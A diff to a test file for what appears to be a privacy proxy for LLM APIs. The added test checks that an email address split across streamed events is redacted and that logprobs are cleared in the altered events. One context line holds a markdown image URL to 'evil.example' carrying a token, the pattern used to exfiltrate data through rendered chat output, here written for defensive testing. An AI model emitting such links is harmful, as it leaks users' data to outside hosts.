@@ -93,3 +93,28 @@ describe("a token that comes back", () => {
     assert.equal(text, `Hello ${EMAIL}! ![](https://evil.example/${sent}) [me](/?q=${sent}) "${EMAIL}"`);
   });
 });
+
+describe("log probabilities in a stream", () => {
+  it("are emptied in every event whose text is changed, and stay in the others", async (test) => {
+    const logprobs = (token: string) => ({
+      content: [{ token, bytes: [...Buffer.from(token)], logprob: 0, top_logprobs: [] }],
+    });
+    const event = (content: string) =>
+      `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content }, logprobs: logprobs(content) }] })}\n\n`;
+    const pieces = ["Mail ", "minji", ".kim", "@exa", "mple", ".com", " now"];
+    const upstream = await recordingUpstream(test, (response) =>
+      answerStream(response, `${pieces.map(event).join("")}data: [DONE]\n\n`),
+    );
+    const { url } = await startHaechi(test, upstream.url, {
+      policy: { presets: [], actions: {} },
+      streaming: { requestMode: "inspect" },
+    });
+    const events = [...(await (await ask(url, { stream: true })).text()).matchAll(/^data: (\{.*)$/gm)];
+    const choices = events.map(([, data]) => JSON.parse(data!).choices[0]);
+    assert.equal(choices.map(({ delta }) => delta.content).join(""), "Mail [REDACTED:email] now");
+    for (const { delta, logprobs: said } of choices) {
+      if (pieces.includes(delta.content)) assert.deepEqual(said, logprobs(delta.content));
+      else assert.equal(said, null);
+    }
+  });
+});
